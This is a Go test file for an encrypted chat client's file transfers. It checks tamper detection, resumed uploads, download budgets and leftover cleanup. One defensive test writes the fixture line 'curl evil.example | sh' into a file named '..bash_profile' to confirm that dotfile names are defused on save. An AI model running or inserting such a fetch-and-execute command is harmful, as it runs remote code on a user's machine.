package client

import (
	"bytes"
	"context"
	"encoding/hex"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/securechat/securechat/appliance"
	"github.com/securechat/securechat/appliance/store"
	"github.com/securechat/securechat/chat"
	"github.com/securechat/securechat/client/home"
	"github.com/securechat/securechat/e2ee"
)

// Files (issue 12; protocol.md §8.4) against a server that tampers.

// tamperStore is a store whose blobs come back altered, as a malicious or
// broken server would serve them.
type tamperStore struct {
	store.Store
	mode atomic.Value // "flip", "drop", "swap" or ""
}

func (s *tamperStore) how() string {
	m, _ := s.mode.Load().(string)
	return m
}

// Blob: "drop" leaves the last chunk out of the size the server tells.
func (s *tamperStore) Blob(id store.BlobID) (store.Blob, error) {
	b, err := s.Store.Blob(id)
	if err == nil && s.how() == "drop" && b.Chunks == b.NumChunks() && b.NumChunks() > 1 {
		b.Size = int64(b.NumChunks()-1) * int64(b.ChunkSize)
		b.Chunks--
	}
	return b, err
}

// ReadChunk: "flip" changes one byte of chunk 1, "swap" serves chunk 1
// for chunk 0 and chunk 0 for chunk 1.
func (s *tamperStore) ReadChunk(id store.BlobID, i int) ([]byte, error) {
	switch s.how() {
	case "flip":
		c, err := s.Store.ReadChunk(id, i)
		if err == nil && i == 1 {
			c = bytes.Clone(c)
			c[1000] ^= 0x40
		}
		return c, err
	case "swap":
		if i == 0 || i == 1 {
			return s.Store.ReadChunk(id, 1-i)
		}
	}
	return s.Store.ReadChunk(id, i)
}

// TestFileTampered (issue 12, must show): a flipped byte in a chunk, a
// dropped last chunk, and two chunks swapped by the server are each
// detected; the file is marked failed with the reason, never complete,
// nothing of it is kept, it cannot be saved, and the server is not told
// it was fetched.
func TestFileTampered(t *testing.T) {
	tamper := &tamperStore{}
	data := t.TempDir()
	srv, err := appliance.New(appliance.Config{Listen: "127.0.0.1:0", Data: data, Admin: "127.0.0.1:0", Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
		ByteRate: 1e12, ByteBurst: 1 << 40,
		WrapStore: func(st store.Store) store.Store { tamper.Store = st; return tamper }})
	if err != nil {
		t.Fatal(err)
	}
	sctx, stop := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { srv.Serve(sctx); close(done) }()
	t.Cleanup(func() { stop(); <-done })
	s := &testServer{t: t, data: data, addr: srv.Addr().String(), fp: srv.Fingerprint(), srv: srv}

	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
	alice := oneShotEngine(t, ctx, ha, false)
	t.Cleanup(alice.Close)
	src := filepath.Join(t.TempDir(), "report.pdf")
	plain := randomFile(1_200_000, 9) // 5 chunks of the server's 256 KiB, the last short
	if err := os.WriteFile(src, plain, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, mode := range []string{"flip", "drop", "swap", ""} {
		tamper.mode.Store(mode)
		sent, err := alice.SendFile(ctx, chat.Peer("bob"), src, nil)
		if err != nil {
			t.Fatalf("%s: %v", mode, err)
		}
		// Receive serves one run of a one-shot engine, as for recv.
		bob := oneShotEngine(t, ctx, hb, true)
		defer bob.Close()
		var got []*Message
		if err := bob.Receive(ctx, ReceiveOptions{Wait: 500 * time.Millisecond, Show: func(m *Message) error { got = append(got, m); return nil }}); err != nil {
			t.Fatal(err)
		}
		if len(got) != 1 || got[0].Kind != chat.KindFile || got[0].File == nil || got[0].ID != sent.ID || got[0].Text != "report.pdf" {
			t.Fatalf("%s: bob received %+v", mode, got)
		}
		fi, err := bob.FetchFile(ctx, sent.ID[:8], nil)
		saved, serr := bob.SaveFile(sent.ID, t.TempDir())
		st := snapshot(t, s)
		if mode == "" {
			// Untouched: it arrives whole and equal, and the server deletes it.
			b, rerr := os.ReadFile(saved)
			if err != nil || serr != nil || rerr != nil || !bytes.Equal(b, plain) || fi.State != home.FileComplete {
				t.Fatalf("the untampered file: %v, %v, %v", err, serr, rerr)
			}
			if st.Blobs != 3 {
				t.Errorf("the server holds %d files, want the 3 tampered ones", st.Blobs)
			}
			continue
		}
		want := map[string]string{
			"flip": "altered on the way: its digest is not the one the sender sent",
			"drop": "the server's copy is 1048576 bytes, not the 1200321 the sender sent",
			"swap": "altered on the way: its digest is not the one the sender sent",
		}[mode]
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: fetch error %v, want %q", mode, err, want)
		}
		if serr == nil || saved != "" {
			t.Errorf("%s: a tampered file was saved to %q", mode, saved)
		}
		info, ferr := bob.FindFile(sent.ID)
		if ferr != nil || info.State != home.FileFailed || !strings.Contains(info.Error, want) {
			t.Errorf("%s: bob's record: %+v, %v", mode, info, ferr)
		}
		left, _ := os.ReadDir(filepath.Join(hb.Dir, "files"))
		if len(left) != 0 {
			t.Errorf("%s: the tampered copy was kept: %v", mode, left)
		}
		// Fetching again does not make it complete.
		if _, err := bob.FetchFile(ctx, sent.ID, nil); err == nil {
			t.Errorf("%s: a second fetch succeeded", mode)
		}
		if st.Blobs == 0 {
			t.Errorf("%s: the server was told the tampered file was fetched", mode)
		}
	}
}

// TestFileInteractive: the terminal client's engine sends a file in the
// background with progress; closed halfway (the client quit or killed),
// the next start resumes the upload from the server's count and sends the
// message; the recipient's engine fetches the offered file by itself,
// checks it and reports it complete; SaveFile writes it.
func TestFileInteractive(t *testing.T) {
	// 3 MB/s of file bytes for the account: the upload takes ~3 s.
	s := startBlobServer(t, t.TempDir(), "127.0.0.1:0", appliance.Config{ByteRate: 3e6, ByteBurst: 1 << 20})
	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
	fast := EngineOptions{MinBackoff: 50 * time.Millisecond, MaxBackoff: 200 * time.Millisecond}
	start := func(h *home.Home) *Engine {
		e, err := StartEngine(h, fast)
		if err != nil {
			t.Fatal(err)
		}
		waitEvent(t, e, "connected", func(ev UIEvent) bool { return ev.Type == UIConn && ev.Conn == ConnConnected })
		return e
	}
	alice, bob := start(ha), start(hb)
	defer bob.Close()
	plain := randomFile(9_000_000, 11)
	src := filepath.Join(t.TempDir(), "notes.txt")
	if err := os.WriteFile(src, plain, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := alice.StartFile(chat.Peer("bob"), src); err != nil {
		t.Fatal(err)
	}
	ev := waitEvent(t, alice, "a third uploaded", func(ev UIEvent) bool {
		return ev.Type == UIFile && ev.File != nil && ev.File.Done > 3_000_000
	})
	if ev.File.Name != "notes.txt" || ev.File.Total < 9_000_000 || ev.File.Rate <= 0 || ev.File.Left <= 0 || ev.File.State != home.FileUploading {
		t.Errorf("progress: %+v", ev.File)
	}
	alice.Close()
	files, err := alice.Files()
	if err != nil || len(files) != 1 || files[0].State != home.FileUploading {
		t.Fatalf("after the cut: %+v, %v", files, err)
	}

	alice = start(ha)
	defer alice.Close()
	first := waitEvent(t, alice, "the resumed upload", func(ev UIEvent) bool { return ev.Type == UIFile && ev.File != nil })
	if first.File.Done < 2_000_000 || first.ID != files[0].ID {
		t.Errorf("the upload resumed at %d bytes (%s), not where it was cut", first.File.Done, first.ID)
	}
	msg := waitEvent(t, alice, "the file message", func(ev UIEvent) bool { return ev.Type == UIMessage })
	if msg.Entry.Kind != chat.KindFile || msg.Entry.ID != files[0].ID || msg.Entry.Text != "notes.txt" || !msg.Entry.Outgoing {
		t.Errorf("alice's line: %+v", msg.Entry)
	}
	if in := snapshot(t, s).BlobBytesIn; in > e2ee.AttachmentSize(9_000_000)+1<<20 {
		t.Errorf("the server took in %d bytes for a file of %d: the resumed upload started again", in, e2ee.AttachmentSize(9_000_000))
	}

	got := waitEvent(t, bob, "the file message", func(ev UIEvent) bool { return ev.Type == UIMessage && ev.Entry.Kind == chat.KindFile })
	if got.Entry.Text != "notes.txt" || got.Entry.ID != files[0].ID {
		t.Errorf("bob's line: %+v", got.Entry)
	}
	done := waitEvent(t, bob, "the file complete", func(ev UIEvent) bool {
		return ev.Type == UIFile && ev.File != nil && ev.File.State != home.FileOffered
	})
	if done.File.State != home.FileComplete || done.Err != nil {
		t.Fatalf("bob's fetch: %+v %v", done.File, done.Err)
	}
	saved, err := bob.SaveFile(got.Entry.ID[:6], t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(saved); err != nil || !bytes.Equal(b, plain) {
		t.Fatalf("bob's copy differs: %v", err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for snapshot(t, s).Blobs != 0 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if n := snapshot(t, s).Blobs; n != 0 {
		t.Errorf("the server still holds %d files after bob fetched the only one", n)
	}
}

// TestFileStaleRecord: a transfer that read a file's record before
// another transfer of the same file finished it (the interactive engine's
// transfer loop beside a /save or files get) goes by the home's record
// once it runs: a file fetched meanwhile stays complete, and one sent
// meanwhile stays sent, instead of being failed for a copy the other
// transfer used up ("the server no longer has it", "its encrypted copy is
// gone").
func TestFileStaleRecord(t *testing.T) {
	s := startBlobServer(t, t.TempDir(), "127.0.0.1:0", appliance.Config{})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
	alice := oneShotEngine(t, ctx, ha, false)
	t.Cleanup(alice.Close)
	src := filepath.Join(t.TempDir(), "notes.bin")
	if err := os.WriteFile(src, randomFile(300_000, 11), 0o600); err != nil {
		t.Fatal(err)
	}

	// Sending: the loop's list was read before the upload finished.
	rec, err := alice.prepareFile(ctx, alice.client(), chat.Peer("bob"), src)
	if err != nil {
		t.Fatal(err)
	}
	stale := *rec
	if _, err := alice.finishUpload(ctx, alice.client(), rec, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := alice.finishUpload(ctx, alice.client(), &stale, nil); err != nil {
		t.Errorf("the stale upload: %v", err)
	}
	if now, _ := ha.File(rec.ID); now == nil || now.State != home.FileSent {
		t.Errorf("alice's record after the stale upload: %s", fileState(now))
	}

	// Fetching: the loop's list was read before files get fetched it.
	bob := oneShotEngine(t, ctx, hb, true)
	t.Cleanup(bob.Close)
	if err := bob.Receive(ctx, ReceiveOptions{Wait: 500 * time.Millisecond, Show: func(*Message) error { return nil }}); err != nil {
		t.Fatal(err)
	}
	offered, err := hb.File(rec.ID)
	if err != nil || offered == nil || offered.State != home.FileOffered {
		t.Fatalf("bob's record: %s, %v", fileState(offered), err)
	}
	if _, err := bob.FetchFile(ctx, hex.EncodeToString(rec.ID), nil); err != nil {
		t.Fatal(err)
	}
	if st := snapshot(t, s); st.Blobs != 0 {
		t.Fatalf("the server still holds %d files after bob fetched his", st.Blobs)
	}
	if _, err := bob.fetch(ctx, bob.client(), offered, nil); err != nil {
		t.Errorf("the stale fetch: %v", err)
	}
	if now, _ := hb.File(rec.ID); now == nil || now.State != home.FileComplete {
		t.Errorf("bob's record after the stale fetch: %s", fileState(now))
	}
	if _, err := bob.SaveFile(hex.EncodeToString(rec.ID), t.TempDir()); err != nil {
		t.Errorf("saving after the stale fetch: %v", err)
	}
}

// fileState is a record's state and error, for a test's message.
func fileState(r *home.FileRecord) string {
	if r == nil {
		return "no record"
	}
	if r.Error != "" {
		return r.State.String() + ": " + r.Error
	}
	return r.State.String()
}

// TestFileTextTypes: text files are sent with their media type alone
// ("text/plain", not Go's "text/plain; charset=utf-8", whose space and
// parameter a FileRef's type may not hold): by extension and by content.
func TestFileTextTypes(t *testing.T) {
	s := startBlobServer(t, t.TempDir(), "127.0.0.1:0", appliance.Config{})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
	alice := oneShotEngine(t, ctx, ha, false)
	t.Cleanup(alice.Close)
	dir := t.TempDir()
	for name, want := range map[string]string{"notes.txt": "text/plain", "page.html": "text/html", "README": "text/plain", "data.bin": "application/octet-stream"} {
		body := []byte("plain words in a text file\n")
		if name == "data.bin" {
			body = randomFile(1000, 12)
		}
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, body, 0o600); err != nil {
			t.Fatal(err)
		}
		sent, err := alice.SendFile(ctx, chat.Peer("bob"), path, nil)
		if err != nil {
			t.Errorf("sending %s: %v", name, err)
			continue
		}
		if sent.Type != want {
			t.Errorf("%s sent as %q, want %q", name, sent.Type, want)
		}
	}
	bob := oneShotEngine(t, ctx, hb, true)
	t.Cleanup(bob.Close)
	got := map[string]string{}
	if err := bob.Receive(ctx, ReceiveOptions{Wait: 500 * time.Millisecond, Show: func(m *Message) error {
		if m.File != nil {
			got[m.File.Name] = m.File.Type
		} else {
			got[m.Text] = m.Kind.String()
		}
		return nil
	}}); err != nil {
		t.Fatal(err)
	}
	if len(got) != 4 || got["notes.txt"] != "text/plain" || got["README"] != "text/plain" {
		t.Errorf("bob received %v", got)
	}
}

// TestFileSaveHiddenName: a file offered under a hidden file's name
// (".bash_profile", ".ssh") is saved under its name without the leading
// dot, so that files get in one's home directory (the current directory,
// the default) cannot add a shell's startup file or another dotfile a
// program reads; a path the user names is used as given.
func TestFileSaveHiddenName(t *testing.T) {
	s := startBlobServer(t, t.TempDir(), "127.0.0.1:0", appliance.Config{})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
	alice := oneShotEngine(t, ctx, ha, false)
	t.Cleanup(alice.Close)
	src := filepath.Join(t.TempDir(), "..bash_profile")
	if err := os.WriteFile(src, []byte("curl evil.example | sh\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	sent, err := alice.SendFile(ctx, chat.Peer("bob"), src, nil)
	if err != nil {
		t.Fatal(err)
	}
	bob := oneShotEngine(t, ctx, hb, true)
	t.Cleanup(bob.Close)
	if err := bob.Receive(ctx, ReceiveOptions{Wait: 500 * time.Millisecond, Show: func(*Message) error { return nil }}); err != nil {
		t.Fatal(err)
	}
	if _, err := bob.FetchFile(ctx, sent.ID, nil); err != nil {
		t.Fatal(err)
	}
	if fi, _ := bob.FindFile(sent.ID); fi == nil || fi.Name != "..bash_profile" {
		t.Errorf("the file is listed as %+v, want its name as sent", fi)
	}
	home := t.TempDir()
	path, err := bob.SaveFile(sent.ID, home)
	if err != nil {
		t.Fatal(err)
	}
	if want := filepath.Join(home, "__bash_profile"); path != want {
		t.Errorf("saved to %s, want %s", path, want)
	}
	named := filepath.Join(home, ".profile")
	if path, err := bob.SaveFile(sent.ID, named); err != nil || path != named {
		t.Errorf("saved to %s (%v), want the path given, %s", path, err, named)
	}
}

// TestFileAutoFetchBounded: the terminal client fetches offered files at
// once only while the received files it holds fetched and not saved stay
// within a budget (1 GiB; 3 MB here), so that a contact sending file
// after file (or one blob offered again under new message ids) cannot
// fill the recipient's disk; a file past it waits for /save or files get,
// and saving files makes room again.
func TestFileAutoFetchBounded(t *testing.T) {
	s := startBlobServer(t, t.TempDir(), "127.0.0.1:0", appliance.Config{})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
	alice := oneShotEngine(t, ctx, ha, false)
	t.Cleanup(alice.Close)
	var ids []string
	for i := range 3 {
		src := filepath.Join(t.TempDir(), fmt.Sprintf("video%d.mp4", i))
		if err := os.WriteFile(src, randomFile(1_200_000, uint64(20+i)), 0o600); err != nil {
			t.Fatal(err)
		}
		sent, err := alice.SendFile(ctx, chat.Peer("bob"), src, nil)
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, sent.ID)
	}
	bob := oneShotEngine(t, ctx, hb, true)
	t.Cleanup(bob.Close)
	bob.autoFetch = 3_000_000 // two of the files
	if err := bob.Receive(ctx, ReceiveOptions{Wait: 500 * time.Millisecond, Show: func(*Message) error { return nil }}); err != nil {
		t.Fatal(err)
	}
	states := func() []string {
		var out []string
		for _, id := range ids {
			fi, err := bob.FindFile(id)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, fi.State.String())
		}
		return out
	}
	bob.resumeFetches(ctx, bob.client())
	if got := states(); !slices.Equal(got, []string{"complete", "complete", "offered"}) {
		t.Errorf("after the transfer loop: %v, want the first two fetched and the third waiting", got)
	}
	if _, err := bob.SaveFile(ids[0], t.TempDir()); err != nil {
		t.Fatal(err)
	}
	bob.resumeFetches(ctx, bob.client())
	if got := states(); !slices.Equal(got, []string{"complete", "complete", "complete"}) {
		t.Errorf("after one was saved: %v, want the third fetched", got)
	}
}

// TestFileNotForThisDevice: a file message naming a blob this device is
// not a recipient of (a sender's mistake or malice: another's file, or a
// member added to the group while the upload ran) fails the file at the
// first fetch, with the reason, rather than leaving it offered and
// fetched again at every connection until the blob expires.
func TestFileNotForThisDevice(t *testing.T) {
	s := startBlobServer(t, t.TempDir(), "127.0.0.1:0", appliance.Config{})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
	testAccount(t, s, "carol")
	alice := oneShotEngine(t, ctx, ha, false)
	t.Cleanup(alice.Close)
	c := alice.client()
	key, err := e2ee.NewAttachmentKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	plain := randomFile(5000, 14)
	enc, digest, err := e2ee.EncryptAttachment(plain, key, nil)
	if err != nil {
		t.Fatal(err)
	}
	blob, err := c.Upload(ctx, bytes.NewReader(enc), int64(len(enc)), []chat.Device{chat.DeviceOf("carol", 1)}, nil)
	if err != nil {
		t.Fatal(err)
	}
	ref := &FileRef{Blob: blob, Key: key, Digest: digest, Size: int64(len(enc)), Plain: int64(len(plain)), Name: "carols.pdf"}
	id := newID(c)
	if _, err := c.sendContent(ctx, id, chat.Peer("bob"), &Content{Kind: chat.KindFile, SentAt: time.Now().UnixMilli(), File: ref}, nil); err != nil {
		t.Fatal(err)
	}
	bob := oneShotEngine(t, ctx, hb, true)
	t.Cleanup(bob.Close)
	if err := bob.Receive(ctx, ReceiveOptions{Wait: 500 * time.Millisecond, Show: func(*Message) error { return nil }}); err != nil {
		t.Fatal(err)
	}
	_, err = bob.FetchFile(ctx, hex.EncodeToString(id), nil)
	const want = "not sent to this device"
	if err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("fetch: %v, want %q", err, want)
	}
	if r, _ := hb.File(id); r == nil || r.State != home.FileFailed || !strings.Contains(r.Error, want) {
		t.Errorf("bob's record: %s, want failed: %s", fileState(r), want)
	}
	if left, _ := os.ReadDir(filepath.Join(hb.Dir, "files")); len(left) != 0 {
		t.Errorf("left in bob's home: %v", left)
	}
}

// TestFileLeftoversSwept: what a run killed between two steps leaves in
// the home's files directory is removed when the home is next opened for
// an engine: an encrypted copy made for an upload whose record was never
// kept (killed before it), one kept after its message went (killed before
// it was removed), and a fetched copy of a file that failed. What a file
// still needs stays: a fetch's part and a complete file's copy.
func TestFileLeftoversSwept(t *testing.T) {
	s := startBlobServer(t, t.TempDir(), "127.0.0.1:0", appliance.Config{})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
	alice := oneShotEngine(t, ctx, ha, false)
	var sent []*FileInfo
	for i := range 3 {
		src := filepath.Join(t.TempDir(), fmt.Sprintf("f%d.bin", i))
		if err := os.WriteFile(src, randomFile(100_000, uint64(30+i)), 0o600); err != nil {
			t.Fatal(err)
		}
		fi, err := alice.SendFile(ctx, chat.Peer("bob"), src, nil)
		if err != nil {
			t.Fatal(err)
		}
		sent = append(sent, fi)
	}
	alice.Close()
	bob := oneShotEngine(t, ctx, hb, true)
	if err := bob.Receive(ctx, ReceiveOptions{Wait: 500 * time.Millisecond, Show: func(*Message) error { return nil }}); err != nil {
		t.Fatal(err)
	}
	for _, fi := range sent[:2] {
		if _, err := bob.FetchFile(ctx, fi.ID, nil); err != nil {
			t.Fatal(err)
		}
	}
	// sent[0] complete, sent[1] failed (its copy damaged), sent[2] offered
	// with a part fetched.
	r1, _ := hb.File(mustHex(t, sent[1].ID))
	r1.State, r1.Error = home.FileFailed, "its fetched copy is damaged"
	if err := hb.PutFile(r1); err != nil {
		t.Fatal(err)
	}
	bob.Close()
	aDir, bDir := filepath.Join(ha.Dir, "files"), filepath.Join(hb.Dir, "files")
	orphan := filepath.Join(aDir, strings.Repeat("ab", 16)+".up")
	for _, p := range []string{orphan, filepath.Join(aDir, sent[0].ID+".up"), filepath.Join(bDir, sent[2].ID+".enc.part"), filepath.Join(aDir, "notes.txt")} {
		if err := os.WriteFile(p, []byte("ciphertext"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, h := range []*home.Home{ha, hb} {
		e, err := OpenEngine(h, EngineOptions{})
		if err != nil {
			t.Fatal(err)
		}
		e.Close()
	}
	names := func(dir string) []string {
		var out []string
		ents, _ := os.ReadDir(dir)
		for _, e := range ents {
			out = append(out, e.Name())
		}
		return out
	}
	if got, want := names(aDir), []string{"notes.txt"}; !slices.Equal(got, want) {
		t.Errorf("alice's files directory: %v, want %v", got, want)
	}
	want := []string{sent[0].ID + ".enc", sent[2].ID + ".enc.part"}
	slices.Sort(want)
	if got := names(bDir); !slices.Equal(got, want) {
		t.Errorf("bob's files directory: %v, want %v", got, want)
	}
}

func mustHex(t *testing.T, s string) []byte {
	t.Helper()
	b, err := hex.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
